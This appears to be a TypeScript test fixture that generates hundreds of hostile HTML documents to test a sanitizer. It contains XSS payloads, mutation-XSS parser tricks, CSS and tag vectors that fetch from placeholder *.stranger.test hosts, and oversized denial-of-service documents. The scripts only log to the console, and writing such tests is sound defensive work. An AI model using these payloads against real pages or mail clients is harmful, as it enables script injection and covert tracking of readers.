// HTML as those write it who want a reader's browser to ask a server of theirs, or to run a script of theirs. Each document tries
// one thing. What runs says so in the console; whatever is asked for lies at hosts that are nobody's.

export interface HostileDocument {
  name: string
  html: string
}

/** In the console of whoever runs a script. */
export const RAN = 'a script of the message ran'
export const RUN = `console.log('${RAN}')`
const LOUD = `${RUN};try{top.location='http://top.stranger.test/'}catch{};try{alert(1)}catch{};new Image().src='http://run.stranger.test/'`
export const at = (place: string) => `http://${place}.stranger.test/${place}`

export const HANDLERS = (
  'onabort onanimationend onanimationstart onauxclick onbeforeinput onbeforematch onbeforetoggle onblur oncanplay onclick oncopy ' +
  'oncontentvisibilityautostatechange oncuechange onerror onfocus onfocusin onload onloadeddata onloadedmetadata onloadstart ' +
  'onmouseenter onmouseover onpageshow onpointerenter onpointerover onpopstate onresize onscroll onscrollend onsecuritypolicyviolation ' +
  'onstart onsuspend ontoggle ontransitionend ontransitionrun ontransitionstart onunhandledrejection onvolumechange onwheel'
).split(' ')

const BEARERS = [
  (handler: string) => `<img src="x:" ${handler}="${RUN}">`,
  (handler: string) => `<svg ${handler}="${RUN}"><animate attributeName=x dur=1s ${handler}="${RUN}"></animate></svg>`,
  (handler: string) =>
    `<style>@keyframes k{to{opacity:.5}}</style><details open style="animation:k .01s" ${handler}="${RUN}" tabindex=0 autofocus>x</details>`,
  (handler: string) => `<video ${handler}="${RUN}"><source src="x:" ${handler}="${RUN}"></video>`,
]

/** Elements that fetch, by the attribute that says what. */
export const FETCHERS: readonly (readonly [tag: string, attribute: string, more?: string])[] = [
  ['img', 'src'],
  ['img', 'srcset'],
  ['img', 'lowsrc'],
  ['img', 'dynsrc'],
  ['img', 'longdesc'],
  ['image', 'src'],
  ['body', 'background'],
  ['table', 'background'],
  ['td', 'background'],
  ['iframe', 'src'],
  ['frame', 'src'],
  ['embed', 'src'],
  ['object', 'data'],
  ['object', 'codebase'],
  ['applet', 'archive'],
  ['portal', 'src'],
  ['fencedframe', 'src'],
  ['audio', 'src', 'autoplay'],
  ['video', 'src', 'autoplay'],
  ['video', 'poster'],
  ['source', 'srcset'],
  ['track', 'src', 'default'],
  ['input', 'src', 'type=image'],
  ['script', 'src'],
  ['bgsound', 'src'],
  ['base', 'href'],
  ['html', 'manifest'],
  ['a', 'href', 'target=_top autofocus'],
  ['a', 'ping'],
  ['area', 'href'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['blockquote', 'cite'],
  ['menuitem', 'icon'],
  ['xml', 'src'],
]

const LINKS =
  'stylesheet prefetch preload prerender dns-prefetch preconnect modulepreload icon manifest import next search'.split(
    ' ',
  )

export const STYLES = [
  'background:url(URL)',
  'background-image:image-set("URL" 1x)',
  'background-image:-webkit-image-set(url(URL) 1x)',
  'background:-webkit-cross-fade(url(URL),url(URL),50%)',
  'list-style:url(URL)',
  'list-style-image:url("URL")',
  'cursor:url(URL),auto',
  'content:url(URL)',
  'border-image:url(URL) 1',
  'border-image-source:url(URL)',
  'mask-image:url(URL)',
  '-webkit-mask:url(URL)',
  'clip-path:url(URL#a)',
  'filter:url(URL#a)',
  'shape-outside:url(URL)',
  'offset-path:url(URL#a)',
  'marker:url(URL#a)',
  'fill:url(URL#a)',
  'background:u\\72l(URL)',
  'background:url(/**/URL)',
  '--x:url(URL);background:var(--x)',
  'behavior:url(URL)',
  '-moz-binding:url(URL#a)',
  'src:url(URL)',
]

export const SHEETS = [
  '@import url(URL);',
  '@import "URL";',
  '@import url(URL) layer(x) supports(display:block) screen;',
  '@font-face{font-family:f;src:url(URL)} p{font-family:f}',
  '@font-face{font-family:f;src:url(URL) format("woff2");unicode-range:U+0061} p{font-family:f}',
  '@namespace url(URL);',
  '@counter-style c{system:cyclic;symbols:url(URL)} li{list-style:c}',
  '@property --p{syntax:"<url>";inherits:false;initial-value:url(URL)} p{background:var(--p)}',
  '@page{background:url(URL)}',
  '@document url(URL){p{color:red}}',
  'p::before{content:url(URL)}',
  'p:hover{background:url(URL)} p{animation:k 1s} @keyframes k{from{background:url(URL)}}',
  '@media all{p{background:url(URL)}}',
  '@container (width>0){p{background:url(URL)}}',
  '</style><img src=URL><style>',
  '<!--</style><img src=URL>-->',
]

const SCRIPTS = [
  `<script>${LOUD}</script>`,
  `<script type=module>${LOUD}</script>`,
  `<SCRIPT/x>${LOUD}</SCRIPT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script nonce="" integrity="">${RUN}</script>`,
  `<svg><script>${LOUD}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><script>${RUN}</script><img src=x: onerror="${RUN}"></template></div>`,
  `<noscript><img src=x: onerror="${RUN}"></noscript>`,
  `<noscript><p title="</noscript><img src=x: onerror=${RUN}>"></noscript>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${at('inside')}'/></svg>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=refresh content="0;url=${at('refresh')}">`,
  `<meta http-equiv=refresh content="0;${at('refresh-bare')}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${RUN}</script>`,
  `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${at('prefetched')}">x</a>`,
  `<meta http-equiv="set-cookie" content="a=b"><meta name=referrer content=unsafe-url><img src="${at('referrer')}">`,
  `<base href="${at('base')}"><img src="relative.png"><link rel=stylesheet href="relative.css"><script src="relative.js"></script>`,
  `<base target="_top"><a href="${at('target')}">x</a>`,
  `<form action="${at('form')}" id=f><input name=a autofocus><input type=submit></form><script>f.submit()</script>`,
  `<form id=document><input name=body><input name=cookie></form><a id=parent><a id=parent name=postMessage>`,
  `<form><input name=attributes><input name=childNodes><input name=nodeName onfocus="${RUN}" autofocus>`,
  `<dialog open><form method=dialog><button autofocus onfocus="${RUN}">x</button></form></dialog>`,
  `<button popovertarget=p>x</button><div id=p popover onbeforetoggle="${RUN}">x</div>`,
  `<x-y is="x-y" onfocus="${RUN}" autofocus tabindex=1>x</x-y>`,
  `<isindex type=image src="${at('isindex')}" onerror="${RUN}">`,
  `<input type=image src="${at('input')}" onerror="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<keygen autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}" loop=1>x</marquee>`,
  `<frameset onload="${RUN}"><frame src="${at('frameset')}"></frameset>`,
  `<xmp><p title="</xmp><img src=x: onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x: onerror="${RUN}">`,
  `<?xml-stylesheet href="${at('xml')}"?><p>x`,
  `<![CDATA[<img src=x: onerror="${RUN}">]]>`,
  `<!--><img src=x: onerror="${RUN}">-->`,
  `<!-- --!><img src=x: onerror="${RUN}">-->`,
  `<!doctype html SYSTEM "${at('doctype')}"><p>x`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><use href="${at('use')}#x"/><image href="${at('image')}"/><feImage href="${at('feimage')}"/></svg>`,
  `<svg><a href="javascript:${RUN}"><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  `<svg><set attributeName=onload to="${RUN}"/><animate attributeName=onbegin begin=0s onbegin="${RUN}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import '${at('svg-style')}';*{fill:url(${at('svg-fill')})}</style><rect width=9 height=9 /></svg>`,
  `<math href="javascript:${RUN}">x</math><math><maction actiontype="statusline#${at('maction')}" xlink:href="javascript:${RUN}">x</maction></math>`,
]

/** What one parser reads otherwise than another, or than itself the second time. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x: onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x: onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="${RUN}">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x: onerror="${RUN}"></style></annotation-xml></math>`,
  `<math><mi><noembed><img src="</noembed><img src=x: onerror=${RUN}>"></noembed></mi></math>`,
  `<svg><title><style><img src="</style><img src=x: onerror=${RUN}>"></style></title></svg>`,
  `<svg><desc><noframes><img src="</noframes><img src=x: onerror=${RUN}>"></noframes></desc></svg>`,
  `<noembed><p title="</noembed><img src=x: onerror=${RUN}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x: onerror=${RUN}>"></noframes>`,
  `<textarea><p title="</textarea><img src=x: onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x: onerror=${RUN}>"></title>`,
  `<select><style><p title="</style></select><img src=x: onerror=${RUN}>"></select>`,
  `<table><svg><td><style><p title="</style><img src=x: onerror=${RUN}>"></table>`,
  `<a href="\u0001java\u0000script:${RUN}" autofocus>x</a><img src=\`x: onerror=${RUN}\`>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x:\u000conerror="${RUN}">`,
  `<img/src="x:"/onerror=${RUN}>`,
  `<p style="width:expression(${RUN});x:\\65xpression(${RUN})">x`,
  `<p title="\u2028\u2029<img src=x: onerror=${RUN}>">x`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `<image src=x: onerror="${RUN}"><isindex><listing>&lt;img src=x: onerror="${RUN}"&gt;</listing>`,
  `<p id="x" name="x"><a href="#x" onclick="${RUN}">x</a><div contenteditable autofocus onfocus="${RUN}">x</div>`,
]

/** What is slow to clean or to draw, up to the size of a body. */
export const LARGE_DOCUMENTS: readonly HostileDocument[] = [
  { name: 'deep', html: `${'<div>'.repeat(10_000)}x` },
  { name: 'deep tables', html: '<table><tr><td>'.repeat(5_000) },
  { name: 'formatting within formatting', html: '<b><i><font>'.repeat(5_000) },
  { name: 'many images', html: `<img src="${at('many')}">`.repeat(20_000) },
  { name: 'many links', html: '<a href="http://a.test">http://b.test/</a>'.repeat(10_000) },
  { name: 'one word', html: 'x'.repeat(1024 * 1024) },
  { name: 'one attribute', html: `<p title="${'&amp;'.repeat(200_000)}">x` },
  { name: 'an address of blanks', html: `<style>p{background:url(${' '.repeat(500_000)}x)}</style>` },
  { name: 'one style', html: `<p style="${`background:url(${at('style')});`.repeat(20_000)}">x` },
]

/** Each in its turn: some hundreds. */
export function* hostileDocuments(): Generator<HostileDocument> {
  for (const handler of HANDLERS) {
    yield { name: handler, html: BEARERS.map((bearer) => bearer(handler)).join('') }
    yield { name: `${handler} of the body`, html: `<body ${handler}="${RUN}"><p>x` }
  }
  for (const [tag, attribute, more = ''] of FETCHERS) {
    const place = `${tag}-${attribute}`
    const schemes = {
      asks: [at(place), at(place).replace('http:', ''), at(place).replace('http:', 'https:')],
      runs: [`javascript:${RUN}`, `&#106;ava&Tab;script&colon;${RUN}`],
      holds: [`data:text/html,<script>${RUN}</script>`],
    }
    for (const [what, values] of Object.entries(schemes)) {
      const html = values.map((value) => `<${tag} ${attribute}="${value}" ${more}>x</${tag}>`).join('')
      yield { name: `${place} ${what}`, html }
    }
  }
  for (const rel of LINKS) {
    const html = `<link rel="${rel}" as=image href="${at(`link-${rel}`)}"><p>x`
    yield { name: `link ${rel}`, html }
    yield { name: `link ${rel} in the body`, html: `<body><p>x${html}` }
  }
  for (const [i, style] of STYLES.entries()) {
    const css = style.replaceAll('URL', at(`css-${i}`))
    yield { name: `style attribute: ${css}`, html: `<ul><li style='${css}'>x</li></ul>` }
    yield { name: `style element: ${css}`, html: `<style>p,li,p::before{${css}}</style><p>x<ul><li>x</ul>` }
  }
  for (const [i, sheet] of SHEETS.entries()) {
    const css = sheet.replaceAll('URL', at(`sheet-${i}`))
    yield { name: `style sheet: ${css}`, html: `<style>${css}</style><p>abc<ol><li>x</ol>` }
    yield {
      name: `style sheet in the head: ${css}`,
      html: `<html><head><style>${css}</style></head><body><p>abc</body></html>`,
    }
  }
  for (const name of ['constructor', '__proto__', 'toString']) {
    yield { name: `an image within it that is called ${name}`, html: `<img src="cid:${name}"><p>x` }
  }
  for (const html of [...SCRIPTS, ...MUTATIONS]) yield { name: html, html }
}
